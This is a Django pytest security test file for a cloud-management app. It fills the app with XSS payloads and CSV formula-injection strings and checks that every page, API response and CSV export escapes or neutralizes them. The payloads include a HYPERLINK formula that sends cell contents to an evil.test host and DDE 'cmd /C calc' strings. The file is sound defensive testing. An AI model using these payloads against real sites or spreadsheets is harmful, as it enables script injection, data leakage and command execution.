"""Hostile content (issue 9): whatever a cloud or a person can name holds HTML, script or a
spreadsheet formula here: resource names, ids, types, statuses, regions, tags and metadata (as a
sync writes them), cost services, regions and resource ids (as an import writes them), cloud
account names and pause reasons, sync and health errors, the organization's name, an invited
e-mail address, an API token, a budget, a saved view, a blueprint (name, description, variable
descriptions and defaults), a deployment's variables, outputs, run log and drift differences.
Every page, HTMX partial and dashboard tile of the URL walk is rendered, plainly, as HTMX, and
with hostile filter values in its query string, and so is every GET operation of the API; the
search palette finds the hostile names and shows them escaped.

Each HTML answer is parsed: no element, attribute, event handler or javascript: link came from
the data, and no payload appears unescaped. Each payload is shown, escaped, somewhere (the
cost chart, the deployment form's help texts and the members page among them). The inventory
and billing CSV exports neutralize every cell that a spreadsheet would run as a formula (=, +,
-, @, tab, carriage return: OWASP's list) and keep numbers, negative ones too, as numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from accounts.models import ApiToken, Invitation, Membership, NotificationChannel
from accounts.notifications.services import notify
from billing.models import Anomaly, BudgetAlert, Finding
from billing.services.budgets import budgets_evaluate
from inventory.models import (
    ActionRun,
    BulkAction,
    CloudAccount,
    PowerSchedule,
    ProviderHealth,
    Resource,
    SavedView,
    ScheduleOccurrence,
    ScheduleTarget,
    SyncRun,
)
from inventory.services.ingest import ingest_scope
from mcloud.clouds.base import ResourceRecord
from mcloud.exports import FORMULA_STARTS
from provisioning.models import (
    Blueprint,
    Deployment,
    DeploymentDrift,
    DeploymentRun,
    Policy,
    PolicyResult,
    PolicySet,
)
from provisioning.services.runs import log_append, run_plan_queue
from tests.billing.costs import daily, store, store_by_tag
from tests.inventory import estate
from tests.provisioning.conftest import make_deployment
from tests.security.urls import get_urls

pytestmark = pytest.mark.django_db

SCRIPT = "<script>xss(1)</script>"
IMG = '"><img src=x onerror=xss(2)>'
SVG = "'><svg onload=xss(3)>"
ATTR = '" onmouseover="xss(4)" x="'
TYPE = "<i>xss</i>"  # a resource type has room for 10 characters
STATUS = "<svg onload=xss>"  # and a status for 16
EMAIL = '"<script>xss(9)</script>"@evil.test'  # a quoted local part: a valid address
MARKUP = (SCRIPT, IMG, SVG, ATTR, TYPE, STATUS, EMAIL)
JS_URL = "javascript:xss(5)"
FORMULAS = (
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+xss(6)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=xss(7)",
    "\r=xss(8)",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Every filter of every page, with markup for a value: what a crafted link would send.
REFLECTED = "?" + urlencode(dict.fromkeys(
    ("q", "provider", "account", "region", "type", "status", "tag", "sort", "per_page", "page",
     "period", "start", "end", "group", "service", "blueprint", "offset", "name"),
    SCRIPT + IMG,
))  # fmt: skip

BLUEPRINT = (
    'variable "who" {\n'
    "  type        = string\n"
    f'  default     = "{SCRIPT}"\n'
    f'  description = "{IMG.replace(chr(34), chr(92) + chr(34))}"\n'
    "}\n\n"
    'variable "labels" {\n'
    "  type        = map(string)\n"
    "  default     = {}\n"
    f'  description = "{ATTR.replace(chr(34), chr(92) + chr(34))}"\n'
    "}\n\n"
    'output "shout" {\n'
    "  value = var.who\n"
    "}\n"
)


class Markup(HTMLParser):
    """What in a page is markup made from the payloads: elements or attributes they carry,
    event handlers, script text, javascript: links."""

    LINKS = ("href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        for name, value in attrs:
            value = value or ""
            if "xss" in name or (name.startswith("on") and "xss" in value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in self.LINKS and value.strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and "xss" in data:
            self.problems.append(f"<script>{data}</script>")


def markup_problems(html: str) -> list[str]:
    parser = Markup()
    parser.feed(html)
    parser.close()
    raw = [f"unescaped {p!r}" for p in MARKUP if p in html]
    return parser.problems + raw


def test_the_check_finds_markup_from_data():
    """The check can fail: each payload pasted into a page unescaped is found."""
    page = '<p title="{}">{}</p><a href="{}">x</a>'
    for payload in MARKUP:
        assert markup_problems(page.format("t", payload, "/")), payload
        assert markup_problems(page.format("t", escape(payload), "/")) == []
    assert markup_problems(page.format(ATTR, "x", "/"))  # breaks out of the attribute
    assert markup_problems(page.format(escape(ATTR), "x", "/")) == []
    assert markup_problems(page.format("t", "x", JS_URL))
    assert markup_problems(page.format("t", "x", escape("?q=" + JS_URL))) == []


@pytest.fixture
def hostile(org, team, login, hello_version) -> dict[str, Any]:
    """The organization, filled with hostile text through the forms where people type it and
    through the sync, import and run write paths where clouds and Terraform send it."""
    client = login(team["alice"])

    def post(name: str, data: dict[str, Any], status: int = 302) -> None:
        response = client.post(reverse(name), data)
        assert response.status_code == status, (name, response.content.decode()[-2000:])

    post("accounts:organization_settings", {"name": f"Acme {SCRIPT}"})
    post("accounts:member_add", {"email": EMAIL, "role": "viewer"})
    post("accounts:token_list", {"name": IMG, "organization": org.pk, "role": "viewer",
                                 "expires_in_days": "30"})  # fmt: skip
    assert ApiToken.objects.filter(name=IMG).exists()  # the page shows the new token's value
    post("billing:budget_create", {"name": SVG, "account": "", "amount": "1", "basis": "actual",
                                   "thresholds": "50", "webhook_url": ""})  # fmt: skip
    post("inventory:saved_view_create", {"name": ATTR, "query": urlencode({"q": SCRIPT}),
                                         "shared": "on"})  # fmt: skip
    channel_new = reverse("accounts:channel_create") + "?kind=email"
    assert client.post(channel_new, {"name": SVG, "address": "ops@acme.test",
                                     "events": ["run.failed"]}).status_code == 302  # fmt: skip
    channel = NotificationChannel.objects.get(organization=org)
    told = notify(organization=org, event="run.failed", title=SCRIPT, text=IMG, url=JS_URL,
                  facts=[(ATTR, SVG)])  # fmt: skip
    told.deliveries.filter(channel=channel).update(status="failed", last_error=IMG)
    post("provisioning:blueprint_create", {"name": SVG, "description": ATTR,
                                           "paste_main_tf": BLUEPRINT})  # fmt: skip

    accounts = [estate.account(org, f"{SVG} aws"), estate.account(org, FORMULAS[0], "azure"),
                estate.account(org, ATTR, "gcp")]  # fmt: skip
    CloudAccount.objects.filter(pk=accounts[2].pk).update(paused_at=timezone.now(),
                                                          pause_reason=IMG)  # fmt: skip
    health = ProviderHealth.objects.create(organization=org, account=accounts[0], status="error",
                                           message=SCRIPT)  # fmt: skip
    CloudAccount.objects.filter(pk=accounts[0].pk).update(latest_health=health)
    records = [
        ResourceRecord(
            resource_id=f"{rid}-{n}", name=name, type="vm", region=SVG, status="running",
            created_at=datetime(2026, 1, 1, tzinfo=UTC),
            tags={"=k": "+v"} if rid.startswith("f") else {SCRIPT: IMG, "env": SVG},
            metadata={"instance_type": SCRIPT, "security_groups": [IMG, SVG], "note": ATTR},
            # The first is attached to the second (its name in the graph) and to an id no
            # listing holds (shown as it is).
            attached_to=["img-1", SCRIPT] if n == 0 else [],
        )
        for n, (rid, name) in enumerate([(JS_URL, SCRIPT), ("img", IMG), ("attr", ATTR),
                                         *((f"f{i}", f) for i, f in enumerate(FORMULAS))])
    ]  # fmt: skip
    ingest_scope(account=accounts[0], scope=SVG, records=records)
    # The ingest takes only the types and statuses adapters make (mcloud.clouds.base checks);
    # rows written before that check, or by hand, may hold anything.
    Resource.objects.filter(resource_id=f"{JS_URL}-0").update(type=TYPE, status=STATUS)
    run = SyncRun.objects.create(organization=org, account=accounts[0], status="partial",
                                 scope_errors={SVG: IMG}, error=SCRIPT,
                                 finished_at=timezone.now())  # fmt: skip

    today = timezone.localdate()
    start = today - timedelta(days=1) if today.day > 1 else today
    costs = daily(accounts[0], start, 1, "5", service=SCRIPT, region=IMG,
                  resource_id=f"{JS_URL}-0")  # fmt: skip
    costs += daily(accounts[0], start, 1, "-1.50", service="Credits", region=SVG)
    for formula in FORMULAS:
        costs += daily(accounts[0], start, 1, "2", service=formula, region=formula[:64])
    store(accounts[0], costs)
    store(accounts[1], daily(accounts[1], start, 1, "3", service=ATTR, region="westeurope"))
    # Costs by tag: a key (set by hand, past the form's check) and values from the bill.
    store_by_tag(accounts[0], start, SCRIPT, {IMG: "2", FORMULAS[0]: "1", SVG: "1", "": "1"})
    budgets_evaluate(organization=org)

    blueprint = Blueprint.objects.get(organization=org)
    version = blueprint.latest_version
    deployment = make_deployment(org, team["alice"], version, "hostile-1", who=IMG,
                                 labels={SCRIPT: SVG})  # fmt: skip
    plan = run_plan_queue(deployment=deployment, user=team["alice"], enqueue=False)
    log_append(plan.pk, f"null_resource.x: Creating... {SCRIPT}\nOutputs:\nshout = {IMG}\n")
    DeploymentRun.objects.filter(pk=plan.pk).update(status=DeploymentRun.Status.PLANNED,
                                                    error=SVG)  # fmt: skip
    policy_set = PolicySet.objects.create(organization=org, name=SCRIPT, description=IMG)
    policy = Policy.objects.create(
        organization=org,
        policy_set=policy_set,
        name=SCRIPT,
        description=IMG,
        source=f"package p\n# {SVG}\n",
        enforcement="mandatory",
    )
    PolicyResult.objects.create(
        organization=org,
        run=plan,
        policy=policy,
        policy_name=SCRIPT,
        enforcement="mandatory",
        status="failed",
        messages=[IMG, ATTR],
    )
    # Drift differences name what a cloud reported (tags, sizes): shown on the page.
    DeploymentDrift.objects.create(
        organization=org, deployment=deployment, drifted_since=timezone.now(),
        inventory_differences=[{
            "address": f"aws_instance.{SVG}", "resource_id": SCRIPT,
            "resource": Resource.objects.get(resource_id="img-1").pk, "kind": "changed",
            "attribute": "tags", "expected": f"env={IMG}", "actual": f"env={ATTR}"}],
        terraform_differences=[{
            "address": SCRIPT, "resource_id": "", "kind": "changed", "attribute": IMG,
            "expected": "", "actual": ""}],
    )  # fmt: skip
    Deployment.objects.filter(pk=deployment.pk).update(outputs={
        "shout": {"value": SCRIPT, "sensitive": False, "type": "string"},
        "more": {"value": [IMG, {SVG: ATTR}], "sensitive": False, "type": "list"},
    })  # fmt: skip
    post("inventory:schedule_create", {"name": SCRIPT[:80], "time_zone": "UTC",
                                       "tag_filter": f"env={IMG}"[:200], "enabled": "on",
                                       "stop_mon": "19:00", "start_tue": "07:00"})  # fmt: skip
    schedule = PowerSchedule.objects.get(organization=org)
    occurrence = ScheduleOccurrence.objects.create(organization=org, schedule=schedule,
                                                   kind="stop", due_at=timezone.now())  # fmt: skip
    ScheduleTarget.objects.create(occurrence=occurrence, outcome=SVG,
                                  resource=Resource.objects.get(resource_id="img-1"))  # fmt: skip
    return {
        "account": accounts[0],
        "resource": Resource.objects.get(resource_id=f"{JS_URL}-0"),
        "run": run,
        "vm": Resource.objects.get(resource_id="img-1"),
        "action_run": ActionRun.objects.create(
            organization=org,
            resource=Resource.objects.get(resource_id="img-1"),
            action="stop",
            status="failed",
            message=SCRIPT,
            error=IMG,
            resync_note=SVG,
            requested_by=team["alice"],
            finished_at=timezone.now(),
        ),
        "bulk_action": hostile_bulk_action(org, team),
        "membership": Membership.objects.get(user=team["bob"]),
        "invitation": Invitation.objects.get(email=EMAIL),
        "saved_view": SavedView.objects.get(organization=org),
        "budget": BudgetAlert.objects.get(organization=org).budget,
        "alert": BudgetAlert.objects.get(organization=org),
        "anomaly": Anomaly.objects.create(
            organization=org,
            account=accounts[0],
            provider="aws",
            service="EC2",
            day=date(2026, 11, 2),
            currency="USD",
            expected_low=1,
            expected_high=2,
            actual=9,
        ),
        "finding": Finding.objects.create(
            organization=org,
            account=accounts[0],
            resource=Resource.objects.get(resource_id="img-1"),
            rule="stopped_vm",
            saving=5,
            currency="USD",
            fingerprint="f",
            details={"disks": [{"id": SCRIPT, "size_gb": IMG}]},
        ),
        "blueprint": blueprint,
        "blueprints": [blueprint, hello_version.blueprint],
        "deployment": deployment,
        "plan": plan,
        "channel": channel,
        "policy": policy,
        "policy_set": policy_set,
        "power_schedule": schedule,
    }


def hostile_bulk_action(org, team) -> BulkAction:
    """A bulk action whose words, failures, skips and notes are hostile."""
    bulk = BulkAction.objects.create(
        organization=org, action="stop", total=2, selection=SCRIPT, resync_notes=[ATTR],
        requested_by=team["alice"],
    )  # fmt: skip
    vm = Resource.objects.get(resource_id="img-1")
    ActionRun.objects.create(organization=org, resource=vm, action="stop", status="failed",
                             error=IMG, code=SVG, bulk=bulk)  # fmt: skip
    ActionRun.objects.create(organization=org, resource=vm, action="stop", status="skipped",
                             message=SVG, bulk=bulk)  # fmt: skip
    return bulk


def test_hostile_text_is_shown_escaped_everywhere(hostile, team, login, token_for):
    pages = login(team["alice"])
    api = Client(headers={"Authorization": f"Bearer {token_for(team['alice'])}"})
    shown: dict[str, str] = {}
    problems = []
    for url in get_urls(hostile):
        if url.is_api:
            requests = [(api, url.path, {}, url.path)]
        else:
            htmx, query = {"HX-Request": "true"}, url.path + REFLECTED
            requests = [(pages, url.path, {}, url.path),
                        (pages, url.path, htmx, f"{url.path} (HTMX)"),
                        (pages, query, {}, f"{url.path} (hostile query)")]  # fmt: skip
        for client, path, headers, label in requests:
            response = client.get(path, headers=headers)
            assert response.status_code < 500, label
            if response.status_code != 200 or response.streaming:  # the CSVs: see below
                continue
            kind = response["Content-Type"].split(";")[0]
            if kind != "text/html":  # the API, the run log as text, /health, a template download
                assert kind in ("text/plain", "application/json", "application/yaml"), (label, kind)
                if kind == "application/yaml":  # downloaded, never shown: nothing hostile in it
                    assert "attachment" in response["Content-Disposition"], label
                    assert not any(p in response.content.decode() for p in (*MARKUP, JS_URL))
                assert response["X-Content-Type-Options"] == "nosniff", label
                continue
            html = response.content.decode()
            assert "could not be loaded" not in html, label  # a dashboard tile that failed
            problems += [f"{label}: {p}" for p in markup_problems(html)]
            shown[label] = html
    assert problems == [], "\n".join(problems)

    everything = "\n".join(shown.values())
    for payload in (*MARKUP, JS_URL):
        assert escape(payload) in everything, payload
    overview = shown[reverse("billing:overview") + "?period=last_90&group=service"]
    chart = overview[overview.index('<svg class="cost-chart"') :]
    chart = chart[: chart.index('aria-label="Legend"') + 2000]
    assert escape(SCRIPT) in chart  # a bar's title, and the legend
    create = reverse("provisioning:deployment_create") + f"?blueprint={hostile['blueprint'].pk}"
    assert escape(IMG) in shown[create]  # the variable's description, as help text
    assert escape(ATTR) in shown[create]
    assert escape(EMAIL) in shown[reverse("accounts:member_list")]
    palette = shown[reverse("accounts:search") + "?q=xss (HTMX)"]  # what the palette shows
    for payload in (SCRIPT, IMG, ATTR, SVG):  # resources, accounts, the blueprint
        assert escape(payload) in palette, payload
    detail = shown[reverse("inventory:resource_detail", args=[hostile["resource"].pk])]
    assert escape(SCRIPT) in detail
    assert escape(IMG) in detail  # a tag's value


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_exports_neutralize_formulas_and_keep_numbers(hostile, team, login):
    client = login(team["vera"])
    inventory = _csv(client.get(reverse("inventory:resource_export")))
    costs = _csv(client.get(reverse("billing:export"), {"period": "last_90"}))
    for rows in (inventory, costs):
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), row

    header, *rows = inventory
    names = {row[header.index("name")] for row in rows}
    assert {f"'{formula}" for formula in FORMULAS} <= names
    assert SCRIPT in names  # text, as it is: a CSV is no HTML page
    tags = {row[header.index("tags")] for row in rows}
    assert tags == {"'=k=+v", f"{SCRIPT}={IMG};env={SVG}"}

    header, *rows = costs
    services = {row[header.index("service")]: row for row in rows}
    assert {f"'{formula}" for formula in FORMULAS} <= services.keys()
    assert services["Credits"][header.index("amount")].startswith("-1.5")  # a number still
    assert {row[header.index("account")] for row in rows} == {f"{SVG} aws", f"'{FORMULAS[0]}"}
    regions = {row[header.index("region")] for row in rows}
    assert {f"'{formula}" for formula in FORMULAS} <= regions
